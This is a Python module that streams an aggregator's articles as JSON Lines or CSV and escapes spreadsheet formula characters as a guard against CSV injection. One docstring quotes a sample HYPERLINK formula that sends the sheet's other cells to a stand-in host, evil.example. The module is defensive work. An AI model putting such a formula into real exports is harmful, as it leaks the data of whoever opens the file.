"""Exporting articles as JSON Lines or CSV, streamed: an archive of any size in the memory of one page of rows."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from datetime import datetime
from typing import Any, TextIO

from sqlalchemy import Engine

from aggregator.present import utc_iso
from aggregator.sources import UnknownSourceError, get_source
from aggregator.store.queries import ArticleFilter, archived_source, iter_articles, iter_changes

FORMATS = ("jsonl", "csv")
COLUMNS = (
    "id", "source", "source_name", "language", "title", "url", "published_at", "published_raw", "archived_at",
    "updated_at", "changed_at", "category", "attribution_line", "cited_outlets", "story_id", "views",
    "cover_image_url", "withdrawn_at", "withdrawn_by", "withdrawn_reason", "body_text", "body_html",
)  # fmt: skip
_TIMES = frozenset({"published_at", "archived_at", "updated_at", "changed_at", "withdrawn_at"})
TOMBSTONE = ("id", "url", "changed_at", "withdrawn_at")
"""What a change export (``--changed-since``) writes of a withdrawn article, as ``/api/changes`` lists it: what
names it, so that the copy it is synced into removes it; its text is no longer the site's to show."""


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet reads a cell starting with as a formula (OWASP's list). A source's title
``=HYPERLINK("https://evil.example/?leak="&A2,"Click")`` ran when the CSV export was opened in one: a click on
it sent the sheet's other cells to evil.example."""


def spreadsheet_cell(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as text: one that would start a formula (``FORMULA_STARTS``) with a ``'``
    before it, which the spreadsheet does not show. Only CSV's: JSON Lines is read by programs, and stays exact."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def record(row: Any, source_name: str) -> dict[str, Any]:
    values = row._mapping
    return {name: utc_iso(values[name]) if name in _TIMES else values.get(name) for name in COLUMNS} | {
        "source_name": source_name,
        "cited_outlets": list(row.cited_outlets or []),
    }


def tombstone(row: Any) -> dict[str, Any]:
    values = row._mapping
    return dict.fromkeys(COLUMNS) | {
        name: utc_iso(values[name]) if name in _TIMES else values[name] for name in TOMBSTONE
    }


def source_names(engine: Engine) -> Callable[[str], str]:
    """Each source key's display name ("Caliber.az"), as the read API gives it: the registry's, else the archive's
    record of a source taken out of the registry since, else the key; each looked up once."""
    names: dict[str, str] = {}

    def name(key: str) -> str:
        if key not in names:
            try:
                names[key] = get_source(key).name
            except UnknownSourceError:
                with engine.connect() as conn:
                    kept = archived_source(conn, key)
                names[key] = kept.name if kept is not None else key
        return names[key]

    return name


def export_articles(
    engine: Engine,
    filters: ArticleFilter,
    fmt: str,
    stream: TextIO,
    *,
    batch: int = 500,
    changed_before: datetime | None = None,
    changed_since: datetime | None = None,
) -> int:
    """Write every matching article to ``stream``, newest first; returns how many.

    With ``changed_before`` (a change export, ``queries.change_horizon``): every article whose row changed at or
    after ``changed_since`` (any time, when None) and before then, oldest change first, as ``/api/changes`` lists
    them: a withdrawn one as a ``tombstone``; of ``filters`` only the source and language apply."""
    if fmt not in FORMATS:
        raise ValueError(f"unknown export format {fmt!r} (have: {', '.join(FORMATS)})")
    written = 0
    writer = csv.DictWriter(stream, fieldnames=COLUMNS) if fmt == "csv" else None
    if writer is not None:
        writer.writeheader()
    name = source_names(engine)
    if changed_before is not None:
        rows = iter_changes(
            engine,
            horizon=changed_before,
            since=changed_since,
            source=filters.source,
            language=filters.language,
            batch=batch,
        )
    else:
        rows = iter_articles(engine, filters, batch=batch)
    for row in rows:
        withdrawn = changed_before is not None and row.withdrawn_at is not None
        data = tombstone(row) if withdrawn else record(row, name(row.source))
        if writer is not None:
            outlets = data["cited_outlets"]
            cells = data | {"cited_outlets": "" if outlets is None else json.dumps(outlets, ensure_ascii=False)}
            writer.writerow({name: spreadsheet_cell(value) for name, value in cells.items()})
        else:
            stream.write(json.dumps(data, ensure_ascii=False) + "\n")
        written += 1
    return written
